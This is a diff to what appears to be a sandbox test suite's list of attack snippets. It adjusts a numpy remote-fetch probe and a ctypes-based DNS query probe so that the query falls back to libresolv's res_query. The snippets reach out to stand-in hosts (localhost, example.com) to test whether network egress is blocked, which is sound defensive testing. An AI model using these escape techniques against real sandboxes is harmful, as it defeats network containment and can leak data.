@@ -52,6 +52,7 @@ ATTACKS: Final[tuple[Attack, ...]] = (
         "a remote table of numpy's",
         TCP,
         "import numpy as np\ndef attack():\n    return np.genfromtxt('http://127.0.0.1:@TCP@/a.csv')\n",
+        bare=False,
         call_s=0.5,
     ),
     _sends(
@@ -155,7 +156,8 @@ ATTACKS: Final[tuple[Attack, ...]] = (
         "    ctypes.memmove(state + 16, struct.pack('<i', 1), 4)\n"
         "    ctypes.memmove(state + 20, address, 16)\n"
         "    room = ctypes.create_string_buffer(512)\n"
-        "    return c.__res_query(b'@MARK@.example.com', 1, 1, room, 512)\n",
+        "    query = getattr(c, 'res_query', None) or ctypes.CDLL('libresolv.so.2').res_query\n"
+        "    return query(b'@MARK@.example.com', 1, 1, room, 512)\n",
         call_s=0.3,
     ),
     _sends(
